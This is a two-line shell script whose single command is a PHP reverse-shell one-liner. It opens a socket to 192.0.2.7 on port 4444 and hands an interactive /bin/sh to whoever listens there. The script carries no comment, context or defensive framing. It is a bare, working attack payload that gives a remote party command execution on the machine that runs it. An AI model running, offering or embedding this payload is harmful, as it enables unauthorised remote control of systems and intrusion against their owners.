#!/bin/sh
php -r '$s=fsockopen("192.0.2.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
